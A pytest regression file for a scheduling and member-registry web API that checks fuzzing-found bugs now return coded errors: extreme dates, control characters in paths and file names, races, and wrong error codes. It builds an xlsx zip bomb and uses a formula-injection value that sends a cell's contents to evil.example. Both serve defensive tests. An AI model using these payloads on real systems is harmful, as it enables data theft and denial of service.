"""Bugs a fuzzing round found (schemathesis over every operation as each role, then nasty cases by hand), one test
each: every answer is a coded 4xx in the contract's error shape (or the right 2xx), never a 500, and nothing
is written twice or half.

- dates at the ends of the calendar (0001-01-01, 9999-12-31) in the schedules' queries and bodies overflowed
  while turning Vietnam's day into UTC (a 500 on both backends); a deadline or a visit made from missed
  bookings could be due in year 9999;
- text no column can hold (NUL, control and bidi characters) in a path segment (`/stations/{code}`,
  `/cards/{card_number}`, `/schedules/cells/{code}.ics`) or in an upload's file name reached PostgreSQL
  (a 500 there; SQLite stored it); a station code in the path longer than its column, likewise;
- a cell code outside Latin-1 in the .ics download's Content-Disposition (gunicorn answers 500);
- an .xlsx zip bomb (a 200 KB upload held as a 200 MB cell by openpyxl);
- two requests creating one username, a unit's first deadline or a new station at once (IntegrityError, a
  500), two reviewers deciding one record at once (both applied; a deadlock on PostgreSQL), two outcomes of
  one visit at once on SQLite (both applied);
- a unit named like a formula became a live formula in the progress export;
- a password over 256 characters answered too_short; a station session ending at 24:00 answered invalid_time.
"""
import io

import pytest
from sqlalchemy import select

from server.extensions import db
from server.jobs.models import Job
from server.schedules.models import Booking, Station
from tests.conftest import at_once
from tests.schedule_support import at, day, plan, station_body, ward  # noqa: F401
from tests.test_nasty_inputs import assert_error


def _bookings():
    db.session.rollback()
    return [(b.id, b.start, b.status) for b in db.session.scalars(select(Booking).order_by(Booking.id))]


# ---- dates at the ends of the calendar ---------------------------------------------------------------

def test_a_day_at_the_ends_of_the_calendar_is_out_of_range_not_a_500(ward, login_as):
    officer = login_as("officer", "C1")
    for when in ("0001-01-01", "9999-12-31"):
        error = assert_error(officer.get(f"/api/v1/schedules?station=ST1&date={when}"), 422, "invalid_input")
        assert error["fields"]["date"][0]["code"] == "date_out_of_range"


def test_a_plan_running_off_the_calendar_is_refused_and_books_nobody(ward):
    for first, last in (("9999-12-01", "9999-12-31"), ("2099-12-31", "9999-12-31")):
        response = ward["admin"].post("/api/v1/schedules/plan", json={
            "station": "ST1", "cells": ["C1"], "from": first, "to": last, "skip_public_holidays": False})
        error = assert_error(response, 422, "invalid_input")
        assert {p["code"] for problems in error["fields"].values() for p in problems} == {"date_out_of_range"}
        assert _bookings() == []


def _missed_bookings(ward):
    """C1 planned for tomorrow, then its slots moved to yesterday: every booking reads `missed`."""
    assert plan(ward["admin"], ["C1"], first=1, last=1).status_code == 200
    for booking in db.session.scalars(select(Booking)):
        booking.start, booking.end = at(-1, "08:00"), at(-1, "08:30")
    db.session.commit()
    return _bookings()


def test_replanning_missed_bookings_off_the_calendar_is_refused_and_moves_nothing(ward, login_as):
    before = _missed_bookings(ward)
    lead = login_as("team_lead", "G1")
    response = lead.post("/api/v1/schedules/replan-missed", json={"unit": "C1", "from": "9999-12-30",
                                                                  "to": "9999-12-31"})
    error = assert_error(response, 422, "invalid_input")
    assert set(error["fields"]) == {"from", "to"}
    assert _bookings() == before


def test_moving_a_booking_to_the_ends_of_the_calendar_is_refused_and_moves_nothing(ward, login_as):
    assert plan(ward["admin"], ["C1"]).status_code == 200
    before = _bookings()
    lead = login_as("team_lead", "G1")
    for start in ("9999-12-31T23:59:59-07:00", "0001-01-01T00:00:00+07:00"):
        error = assert_error(lead.post(f"/api/v1/bookings/{before[0][0]}/move", json={"start": start}),
                             422, "invalid_input")
        assert error["fields"]["start"][0]["code"] == "date_out_of_range"
        assert _bookings() == before


def test_missed_bookings_turned_into_visits_due_in_year_9999_are_refused(ward, login_as):
    before = _missed_bookings(ward)
    lead, officer = login_as("team_lead", "G1"), login_as("officer", "C1")
    response = lead.post("/api/v1/schedules/missed/visits", json={
        "unit": "C1", "booking_ids": [before[0][0]], "assignee_ids": [officer.user.id], "due_date": "9999-12-31"})
    error = assert_error(response, 422, "invalid_input")
    assert error["fields"]["due_date"][0]["code"] == "date_out_of_range"
    assert _bookings() == before  # still missed, not cancelled


# ---- text no column can hold, in a path or a file name --------------------------------------------------

def test_a_station_code_no_column_can_hold_is_not_found_and_not_stored(ward):
    for segment in ("A%00B", "A%1BB", "A%E2%80%AEB"):  # NUL, ESC, a right-to-left override
        assert_error(ward["admin"].put(f"/api/v1/stations/{segment}", json=station_body()), 404, "not_found")
    db.session.rollback()
    assert db.session.scalars(select(Station.code)).all() == ["ST1"]
    response = ward["admin"].put("/api/v1/stations/" + "S" * 65, json=station_body())
    error = assert_error(response, 422, "invalid_input")
    assert error["fields"] == {"code": [{"code": "too_long", "params": {"max": 64}}]}
    db.session.rollback()
    assert db.session.scalars(select(Station.code)).all() == ["ST1"]  # and the too-long one stored neither


def test_a_code_no_column_can_hold_in_a_path_is_simply_not_found(app, login_as):
    admin = login_as("unit_admin", "P")
    for path in ("/api/v1/cards/K%001", "/api/v1/schedules/cells/C%001.ics", "/api/v1/schedules/cells/C%001.pdf",
                 "/api/v1/cards/K%E2%80%AE1"):
        assert_error(admin.get(path), 404, "not_found")


def test_an_upload_whose_file_name_no_column_can_hold_is_refused_and_queues_nothing(app, login_as):
    admin = login_as("unit_admin", "P")
    for filename in ("units\x00.csv", "units\u202evsc.csv", "units\x1b[2J.csv"):
        response = admin.post("/api/v1/imports", content_type="multipart/form-data", data={
            "import_kind": "units",
            "import_file": (io.BytesIO(b"code,name,kind,parent_code\nX1,Y,cell,G1\n"), filename)})
        error = assert_error(response, 422, "invalid_input")
        assert error["fields"] == {"import_file": [{"code": "invalid_characters", "params": {}}]}
    db.session.rollback()
    assert db.session.query(Job).count() == 0
    uploads = app.config["DATA_DIR"] / "uploads"
    assert not uploads.exists() or list(uploads.iterdir()) == []


# ---- a download named after a code outside Latin-1 --------------------------------------------------------

def test_a_cells_notice_named_after_a_code_outside_latin_1_downloads(app, tree, login_as):
    """A unit's code may be any text without spaces (CHIBỘ1 imports fine); the .ics put it raw into
    Content-Disposition, and gunicorn answers 500 for a header value outside Latin-1."""
    from urllib.parse import quote
    from server.units import add_unit
    add_unit("CHIBỘ1", "Chi bộ Bộ Một", "cell", tree["G1"])
    add_unit('C"1', "Chi bộ Ngoặc", "cell", tree["G1"])
    db.session.commit()
    admin = login_as("unit_admin", "P")
    for (code, fallback), suffix in ((c, s) for c in (("CHIBỘ1", "CHIB_1"), ('C"1', "C_1")) for s in (".ics", ".pdf")):
        response = admin.get(f"/api/v1/schedules/cells/{quote(code)}{suffix}")
        assert response.status_code == 200
        disposition = response.headers["Content-Disposition"]
        assert disposition.isascii()  # what a server can send as a header at all
        assert f'filename="{"lich-" if suffix == ".pdf" else ""}{fallback}{suffix}"' in disposition
        assert disposition.endswith(quote(f"{'lich-' if suffix == '.pdf' else ''}{code}{suffix}"))


# ---- a zip bomb dressed as a workbook ----------------------------------------------------------------------

def _bomb_xlsx(cell_bytes: int) -> bytes:
    """A units workbook whose one name cell unpacks to `cell_bytes` bytes from a file a thousandth of that."""
    import zipfile
    from openpyxl import Workbook
    book = Workbook()
    book.active.append(["code", "name", "kind", "parent_code"])
    book.active.append(["X1", "BIGNAME", "cell", "G1"])
    plain, out = io.BytesIO(), io.BytesIO()
    book.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for part in source.infolist():
            bomb.writestr(part.filename, source.read(part).replace(b"BIGNAME", b"a" * cell_bytes))
    return out.getvalue()


def test_a_workbook_that_unpacks_to_a_thousand_times_its_size_is_refused_unread(app, tree, login_as, monkeypatch):
    """openpyxl holds a cell's whole text in memory before a row is seen: 200 KB of upload made a 200 MB cell
    (450 MB in the worker), a few MB more an out-of-memory kill. It is refused from the zip's directory."""
    from server.models import Unit
    calls = []
    import openpyxl
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: calls.append(1))  # never opened at all
    body = _bomb_xlsx(8 << 20)
    assert len(body) < 64 * 1024
    admin = login_as("unit_admin", "P")
    response = admin.post("/api/v1/imports", content_type="multipart/form-data", data={
        "import_kind": "units", "import_file": (io.BytesIO(body), "units.xlsx")})
    assert response.status_code == 202
    job = admin.get(f"/api/v1/jobs/{response.get_json()['id']}").get_json()
    assert job["state"] == "rejected" and job["report"]["stored"] is False
    assert [r["line"] for r in job["report"]["rejected"]] == [1]
    assert "unpacks to far more" in job["report"]["rejected"][0]["reasons"][0]
    assert calls == []
    db.session.rollback()
    assert db.session.scalar(select(Unit).where(Unit.code == "X1")) is None


# ---- the same new thing created by two requests at once --------------------------------------------------

def _race(app, requests):
    """Send each (client, method, path, json) from its own thread at once; their (status, error code)s, sorted."""
    db.session.commit()
    db.session.remove()
    return sorted(at_once(app, requests))


def test_one_username_created_twice_at_once_is_taken_not_a_500(app, tree, login_as):
    from server.models import User
    admins = [login_as("unit_admin", "P"), login_as("unit_admin", "A1")]
    for n in range(3):  # three rounds: each of them made a 500 before
        body = {"username": f"twin{n}", "password": "long enough 1", "role": "officer", "unit_code": "C1"}
        assert _race(app, [(a, "POST", "/api/v1/users", body) for a in admins]) == [(201, None),
                                                                                    (409, "username_taken")]
        assert db.session.query(User).filter_by(username=f"twin{n}").count() == 1


def test_a_units_first_deadline_set_twice_at_once_keeps_one_and_clearing_twice_clears(app, tree, login_as):
    from server.dashboard.models import UnitDeadline
    from server.models import Unit
    admins = [login_as("unit_admin", "P"), login_as("unit_admin", "A1")]
    ids = dict(db.session.execute(select(Unit.code, Unit.id)).all())
    for unit in ("C1", "G1", "A1"):
        bodies = [{"unit_code": unit, "deadline": f"2030-01-0{i + 1}"} for i in range(2)]
        assert _race(app, [(a, "PUT", "/api/v1/progress/deadline", b) for a, b in zip(admins, bodies)]) == [
            (200, None), (200, None)]
        rows = db.session.query(UnitDeadline).filter_by(unit_id=ids[unit]).all()
        assert len(rows) == 1 and rows[0].deadline.isoformat() in ("2030-01-01", "2030-01-02")
        assert _race(app, [(a, "PUT", "/api/v1/progress/deadline", {"unit_code": unit, "deadline": None})
                           for a in admins]) == [(200, None), (200, None)]
        assert db.session.query(UnitDeadline).filter_by(unit_id=ids[unit]).count() == 0


def test_one_new_station_put_twice_at_once_is_created_once_and_replaced_once(app, tree, login_as):
    admins = [login_as("unit_admin", "P"), login_as("unit_admin", "A1")]
    for n in range(3):
        assert _race(app, [(a, "PUT", f"/api/v1/stations/NEW{n}", station_body()) for a in admins]) == [
            (200, None), (201, None)]
        assert db.session.query(Station).filter_by(code=f"NEW{n}").count() == 1


# ---- text a spreadsheet would run as a formula --------------------------------------------------------------

def test_the_progress_export_keeps_a_unit_named_like_a_formula_as_text(app, tree, login_as):
    """Unit names and codes come from imported files, where "=HYPERLINK(…)" is a valid name; the progress
    sheet appended them raw, and openpyxl stores a string that starts with "=" as a live formula."""
    from openpyxl import load_workbook
    from server.units import add_unit
    leak = '=HYPERLINK("http://evil.example/?leak="&B2,"Bấm để xem")'
    add_unit("=1+1", leak, "cell", tree["G1"])
    add_unit("C9", "+1+1", "cell", tree["G1"])
    db.session.commit()
    response = login_as("unit_admin", "P").get("/api/v1/progress/export.xlsx?unit=G1")
    assert response.status_code == 200
    cells = [cell for row in load_workbook(io.BytesIO(response.data)).active.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    rows = {row[0].value.strip(): row for row in load_workbook(io.BytesIO(response.data)).active.iter_rows(min_row=2)}
    assert rows["=1+1"][1].value == leak and rows["=1+1"][1].quotePrefix and rows["=1+1"][0].data_type == "s"
    assert rows["C9"][1].value == "+1+1" and rows["C9"][1].quotePrefix


def test_one_record_decided_by_two_reviewers_at_once_is_decided_once(app, members, login_as):
    """Both passed the needs_review check before either wrote: SQLite applied both decisions (two audit rows, the
    second overwriting the first), PostgreSQL answered one of them with a deadlock (a 500)."""
    from server.models import AuditEvent, Submission
    from tests.sync_support import item, post_items, stored_photo
    officer = login_as("officer", "C1")
    m2_fields = {"full_name": "Trần Thị Hoà", "date_of_birth": "1972", "gender": "female", "citizen_id": "001172000111"}
    results = post_items(officer, [item(stored_photo(), member_id=members["m1"].id),
                                   item(stored_photo(), member_id=members["m2"].id, fields=m2_fields)]).json["results"]
    assert [r["status"] for r in results] == ["needs_review", "needs_review"]  # no registry rows at all
    admins = [login_as("unit_admin", "P"), login_as("unit_admin", "A1")]
    for result in results:
        path = f"/api/v1/review/submissions/{result['submission_id']}/decision"
        answers = _race(app, [(admins[0], "POST", path, {"decision": "accept_submitted"}),
                              (admins[1], "POST", path, {"decision": "accept_submitted"})])
        assert answers == [(200, None), (409, "already_verified")]
        assert db.session.get(Submission, result["submission_id"]).status == "verified"
        assert db.session.query(AuditEvent).filter_by(action="review.decision",
                                                      object_id=str(result["submission_id"])).count() == 1


def test_a_visits_outcome_recorded_twice_at_once_is_recorded_once(app, members, login_as):
    """The visit's FOR UPDATE is a no-op on SQLite: both requests saw it open and both closed it (two audit rows,
    the later reason overwriting the first). PostgreSQL already answered the second visit_closed."""
    from server.models import AuditEvent, Visit
    lead, officer = login_as("team_lead", "G1"), login_as("officer", "C1")
    officer_id = officer.user.id
    for member_id in (members["m1"].id, members["m2"].id):
        visit = lead.post("/api/v1/visits", json={"member_id": member_id, "assignee_id": officer_id})
        path = f"/api/v1/visits/{visit.get_json()['id']}/outcome"
        answers = _race(app, [(officer, "POST", path, {"result": "could_not_collect", "reason": "not_home"}),
                              (lead, "POST", path, {"result": "could_not_collect", "reason": "moved"})])
        assert answers == [(200, None), (409, "visit_closed")]
        assert db.session.get(Visit, visit.get_json()["id"]).status == "could_not_collect"
        assert db.session.query(AuditEvent).filter_by(action="visit.outcome",
                                                      object_id=str(visit.get_json()["id"])).count() == 1


# ---- a wrong error code ----------------------------------------------------------------------------------

def test_a_password_out_of_bounds_says_which_bound(app, tree, login_as):
    """A password over 256 characters was refused as too_short (with no {min} for the text to show)."""
    from server.models import User
    admin = login_as("unit_admin", "P")
    users, me = db.session.query(User).count(), admin.user.id
    for password, problem in (("x" * 257, {"code": "too_long", "params": {"max": 256}}),
                              ("short", {"code": "too_short", "params": {"min": 8}})):
        created = admin.post("/api/v1/users", json={"username": "new.user", "password": password, "role": "officer",
                                                    "unit_code": "C1"})
        assert assert_error(created, 422, "invalid_input")["fields"] == {"password": [problem]}
        updated = admin.post(f"/api/v1/users/{me}", json={"password": password})
        assert assert_error(updated, 422, "invalid_input")["fields"] == {"password": [problem]}
    db.session.rollback()
    assert db.session.query(User).count() == users


def test_an_evening_session_may_end_at_24_00_as_the_schema_says(ward, login_as):
    """The schema's HH:MM takes "24:00", but the pattern was parsed into datetime.time, which refuses hour 24:
    a session ending at midnight answered invalid_time."""
    week = [{"weekday": d, "start": "22:00", "end": "24:00"} for d in range(1, 8)]
    response = ward["admin"].put("/api/v1/stations/ST1", json=station_body(week=week, slot_minutes=60))
    assert response.status_code == 200, response.get_json()
    slots = login_as("officer", "C1").get(f"/api/v1/schedules?station=ST1&date={day(1)}").get_json()["slots"]
    assert [(s["start"], s["end"]) for s in slots] == [(at(1, "22:00").isoformat(), at(1, "23:00").isoformat()),
                                                       (at(1, "23:00").isoformat(), at(2, "00:00").isoformat())]
    assert plan(ward["admin"], ["C1"], first=1, last=1).get_json()["booked"] == 3


def test_a_deadline_in_year_1_or_9999_is_refused_like_a_visits_due_date(app, tree, login_as):
    """Stored as sent before: the dashboard then told a unit it needed all its members collected today (year 1)
    or had 8,000 years to go."""
    from server.dashboard.models import UnitDeadline
    admin = login_as("unit_admin", "P")
    for deadline in ("0001-01-01", "9999-12-31"):
        response = admin.put("/api/v1/progress/deadline", json={"unit_code": "C1", "deadline": deadline})
        error = assert_error(response, 422, "invalid_input")
        assert error["fields"]["deadline"][0]["code"] == "date_out_of_range"
    db.session.rollback()
    assert db.session.query(UnitDeadline).count() == 0


def test_an_id_with_a_fraction_is_refused_not_rounded_down_to_another(app, members, login_as):
    """Integer fields read 1.9 as 1: a visit meant for no one was planned for member 1, by user 5.99 for user 5."""
    from server.models import Visit
    lead, officer = login_as("team_lead", "G1"), login_as("officer", "C1")
    for body, field in (({"member_id": members["m1"].id + 0.9, "assignee_id": officer.user.id}, "member_id"),
                        ({"member_id": members["m1"].id, "assignee_id": officer.user.id + 0.5}, "assignee_id")):
        error = assert_error(lead.post("/api/v1/visits", json=body), 422, "invalid_input")
        assert error["fields"] == {field: [{"code": "invalid_type", "params": {}}]}
    db.session.rollback()
    assert db.session.query(Visit).count() == 0
    whole = lead.post("/api/v1/visits", json={"member_id": float(members["m1"].id), "assignee_id": officer.user.id})
    assert whole.status_code == 201  # 7.0 is still the number 7
